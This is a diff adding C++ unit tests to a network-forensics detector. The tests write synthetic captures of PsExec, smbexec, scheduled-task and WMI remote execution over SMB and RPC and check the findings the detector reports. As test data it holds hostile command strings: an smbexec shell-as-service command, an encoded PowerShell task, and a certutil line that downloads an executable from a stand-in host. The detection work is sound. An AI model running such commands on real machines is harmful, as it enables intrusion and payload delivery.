@@ -1,10 +1,16 @@
 // Reassembly, SMB and TDS sessions, and the findings made of them, on captures the tests write (support/pcap_writer):
 // the scenarios of the write-ups that no public capture has in this shape.
-#include <gtest/gtest.h>
+#include <unistd.h>
 
 #include <algorithm>
+#include <cstdlib>
 #include <filesystem>
+#include <fstream>
+#include <iostream>
 #include <map>
+#include <optional>
+
+#include <gtest/gtest.h>
 
 #include "core/mapped_file.h"
 #include "detect/heuristics/network_mining.h"
@@ -239,6 +245,177 @@ TEST(PcapSessions, EternalBlueDoublePulsarAndSmb1) {
   ok.client(test::smb1_nt_trans_request(9, 1024));
   ok.close();
   EXPECT_TRUE(findings_of(flows_of(n.pcap())).empty());
+}
+
+// PsExec as it crosses the wire (SMB 2): the program written to ADMIN$, then the Service Control Manager asked
+// through \PIPE\svcctl to create and start a service that runs it.
+void psexec_like(CaptureWriter& w, const std::string& src, const std::string& dst, const std::string& service,
+                 const std::string& binary, bool copy) {
+  TcpConversation c(w, src, 49731, dst, 445);
+  c.handshake();
+  c.client(test::smb2_negotiate_request());
+  c.server(test::smb2_negotiate_response(0x0210));
+  c.client(test::smb2_session_setup_request(1, test::ntlm_authenticate("CORP", "backup")));
+  c.server(test::smb2_session_setup_response(1, ntstatus::kSuccess));
+  const std::string exe_id(16, '\xA1'), pipe_id(16, '\xB2');
+  if (copy) {
+    c.client(test::smb2_tree_connect_request(2, "\\\\" + dst + "\\ADMIN$"));
+    c.server(test::smb2_tree_connect_response(2, 5, 1));
+    c.client(test::smb2_create_request(3, 5, service + ".exe"));
+    c.server(test::smb2_create_response(3, 5, exe_id));
+    c.client(test::smb2_write_request(4, 5, exe_id, 0, "MZ\x90" + std::string(3000, 'A')));
+    c.client(test::smb2_write_request(5, 5, exe_id, 3003, std::string(1000, 'B')));
+  }
+  c.client(test::smb2_tree_connect_request(6, "\\\\" + dst + "\\IPC$"));
+  c.server(test::smb2_tree_connect_response(6, 7, 2));
+  c.client(test::smb2_create_request(7, 7, "svcctl"));
+  c.server(test::smb2_create_response(7, 7, pipe_id));
+  const std::string svcctl = "367abb81-9844-35f1-ad32-98f038001003";
+  c.client(test::smb2_ioctl_transceive_request(8, 7, pipe_id, test::dcerpc_bind(1, {{0, svcctl, 2}})));
+  c.client(test::smb2_ioctl_transceive_request(
+      9, 7, pipe_id, test::dcerpc_request(2, 0, 12, test::svcctl_create_service_stub(service, service, binary))));
+  c.client(test::smb2_ioctl_transceive_request(10, 7, pipe_id,
+                                               test::dcerpc_request(3, 0, 19, test::svcctl_start_service_stub())));
+  c.close();
+}
+
+// tshark's reading of the same capture, one line per packet matching `filter`, `fields` tab-separated; nullopt
+// when tshark is not installed (scripts/setup.sh --dev installs it).
+std::optional<std::vector<std::string>> tshark(const std::string& capture, const std::string& filter,
+                                               const std::string& fields) {
+  if (std::system("command -v tshark >/dev/null 2>&1") != 0) return std::nullopt;
+  const fs::path dir = fs::temp_directory_path() / ("msw-tshark-" + std::to_string(::getpid()));
+  fs::create_directories(dir);
+  std::ofstream(dir / "c.pcap", std::ios::binary) << capture;
+  std::string cmd = "tshark -n -r " + (dir / "c.pcap").string() + " -Y '" + filter + "' -T fields";
+  for (size_t p = 0; p < fields.size();) {
+    const size_t q = std::min(fields.find(',', p), fields.size());
+    cmd += " -e " + fields.substr(p, q - p);
+    p = q + 1;
+  }
+  cmd += " 2>/dev/null > " + (dir / "out.txt").string();
+  const int rc = std::system(cmd.c_str());
+  std::vector<std::string> lines;
+  std::ifstream in(dir / "out.txt");
+  for (std::string line; std::getline(in, line);) lines.push_back(line);
+  fs::remove_all(dir);
+  if (rc != 0) return std::nullopt;
+  return lines;
+}
+
+TEST(PcapSessions, PsExecStyleRemoteExecutionOverSmb2) {
+  CaptureWriter w;
+  psexec_like(w, "10.1.1.50", "10.1.1.10", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", true);
+  const std::string capture = w.pcap();
+  const auto flows = flows_of(capture);
+  ASSERT_EQ(flows.flows.size(), 1u);
+  const model::Event& e = flows.flows[0];
+  EXPECT_EQ(e.value("SmbAdminShareWrites"), "\\\\10.1.1.10\\ADMIN$\\PSEXESVC.exe (4003 bytes, executable, packet 14)");
+  EXPECT_EQ(e.value("SmbPipes"), "svcctl");
+  EXPECT_EQ(e.value("RpcCalls"),
+            "svcctl CreateServiceW: PSEXESVC | PSEXESVC | %SystemRoot%\\PSEXESVC.exe; svcctl StartServiceW");
+  const auto found = findings_of(flows);
+  const auto* x = find_rule(found, detect::heuristics::kRemoteExecutionRule);
+  ASSERT_TRUE(x);
+  EXPECT_EQ(x->severity, model::Severity::High);
+  EXPECT_EQ(x->title_en,
+            "10.1.1.50 ran code on 10.1.1.10: PsExec-style remote execution (a program copied to an administrative "
+            "share, then run as a service), service PSEXESVC: %SystemRoot%\\PSEXESVC.exe");
+  EXPECT_EQ(x->attack, (std::vector<std::string>{"T1021.002", "T1569.002", "T1570"}));
+  EXPECT_FALSE(find_rule(found, detect::heuristics::kWireBruteForceRule));
+
+  // The oracle: tshark reads the same service, binary path, share, file and byte count.
+  const auto services = tshark(capture, "svcctl.opnum == 12", "ip.src,ip.dst,svcctl.servicename,svcctl.binarypathname");
+  if (!services) {
+    std::cout << "tshark not installed: the oracle half of this test did not run\n";
+    return;
+  }
+  ASSERT_EQ(services->size(), 1u);
+  EXPECT_EQ((*services)[0], "10.1.1.50\t10.1.1.10\tPSEXESVC\t%SystemRoot%\\PSEXESVC.exe");
+  EXPECT_EQ(*tshark(capture, "smb2.cmd == 3 && smb2.flags.response == 0", "smb2.tree"),
+            (std::vector<std::string>{"\\\\10.1.1.10\\ADMIN$", "\\\\10.1.1.10\\IPC$"}));
+  EXPECT_EQ(*tshark(capture, "smb2.cmd == 5 && smb2.flags.response == 0", "smb2.filename"),
+            (std::vector<std::string>{"PSEXESVC.exe", "svcctl"}));
+  uint64_t written = 0;
+  const auto writes = tshark(capture, "smb2.cmd == 9", "smb2.write_length");
+  for (const auto& line : *writes) written += std::stoull(line);
+  EXPECT_EQ(written, 4003u);
+}
+
+TEST(PcapSessions, SmbexecTaskAndWmiRemoteExecution) {
+  CaptureWriter w;
+  // impacket's smbexec: no file, a service whose binary is a command shell.
+  psexec_like(
+      w, "10.1.1.51", "10.1.1.11", "BTOBTO",
+      "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c "
+      "%TEMP%\\execute.bat & del %TEMP%\\execute.bat",
+      false);
+  // A task registered through the Task Scheduler's RPC on a dynamic port, and WMI's ExecMethod.
+  const std::string xml =
+      "<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/c powershell -enc SQBFAFgA"
+      "</Arguments></Exec></Actions></Task>";
+  TcpConversation t(w, "10.1.1.52", 50001, "10.1.1.12", 49667);
+  t.handshake();
+  t.client(test::dcerpc_bind(1, {{0, "86d35949-83c9-4044-b424-db363231fd0c", 1}}));
+  t.client(test::dcerpc_request(2, 0, 1, test::tsch_register_task_stub("\\Updater", xml)));
+  t.close();
+  TcpConversation m(w, "10.1.1.53", 50002, "10.1.1.13", 49668);
+  m.handshake();
+  m.client(test::dcerpc_bind(1, {{0, "9556dc99-828c-11cf-a37e-00aa003240c7", 0}}));
+  m.client(test::dcerpc_request(2, 0, 24,
+                                test::utf16le("Win32_Process") + std::string(4, '\0') + test::utf16le("Create") +
+                                    std::string(2, '\0') + "cmd.exe /c certutil -urlcache -f http://x/a.exe"));
+  m.close();
+  const auto found = findings_of(flows_of(w.pcap()));
+  std::map<std::string, std::string> by_target;
+  for (const auto& f : found)
+    if (f.rule_id == detect::heuristics::kRemoteExecutionRule) by_target[f.observables.at(1).value] = f.title_en;
+  ASSERT_EQ(by_target.size(), 3u);
+  EXPECT_NE(
+      by_target["10.1.1.11"].find("smbexec-style remote execution (a command shell as a service), service BTOBTO"),
+      std::string::npos)
+      << by_target["10.1.1.11"];
+  EXPECT_NE(by_target["10.1.1.12"].find("remote execution through RPC (scheduled task)"), std::string::npos)
+      << by_target["10.1.1.12"];
+  EXPECT_NE(by_target["10.1.1.13"].find("remote execution through RPC (WMI ExecMethod)"), std::string::npos)
+      << by_target["10.1.1.13"];
+  for (const auto& f : found) {
+    if (f.observables.size() > 1 && f.observables[1].value == "10.1.1.13") {
+      EXPECT_NE(f.description_en.find("certutil -urlcache"), std::string::npos) << f.description_en;
+    }
+  }
+}
+
+// EternalBlue grooms the server with a score of SMB connections that log nobody on: no password guessing.
+// Browsing a file share and listing shares through srvsvc run nothing.
+TEST(PcapSessions, GroomingConnectionsAndOrdinarySharesAreNoGuessingOrExecution) {
+  CaptureWriter w;
+  for (int i = 0; i < 20; ++i) {
+    TcpConversation g(w, "192.168.5.20", static_cast<uint16_t>(50100 + i), "192.168.5.31", 445);
+    g.handshake();
+    g.client(test::smb1_negotiate_request({"NT LM 0.12"}));
+    g.server(test::smb1_negotiate_response(0));
+    g.close();
+  }
+  TcpConversation c(w, "10.2.2.2", 50200, "10.2.2.9", 445);
+  c.handshake();
+  c.client(test::smb2_negotiate_request());
+  c.server(test::smb2_negotiate_response(0x0311));
+  c.client(test::smb2_session_setup_request(1, test::ntlm_authenticate("CORP", "alice")));
+  c.server(test::smb2_session_setup_response(1, ntstatus::kSuccess));
+  c.client(test::smb2_tree_connect_request(2, "\\\\fs01\\public"));
+  c.server(test::smb2_tree_connect_response(2, 3, 1));
+  const std::string id(16, '\x01');
+  c.client(test::smb2_create_request(3, 3, "report.exe"));
+  c.server(test::smb2_create_response(3, 3, id));
+  c.client(test::smb2_write_request(4, 3, id, 0, "MZ" + std::string(100, 'x')));
+  c.close();
+  const auto found = findings_of(flows_of(w.pcap()));
+  for (const auto& f : found)
+    EXPECT_TRUE(f.rule_id != detect::heuristics::kWireBruteForceRule &&
+                f.rule_id != detect::heuristics::kLoginBurstRule &&
+                f.rule_id != detect::heuristics::kRemoteExecutionRule)
+        << f.title_en;
 }
 
 // A worm's 445 sweep: SYNs to 40 addresses, most refused; the scan is one finding with its rate.
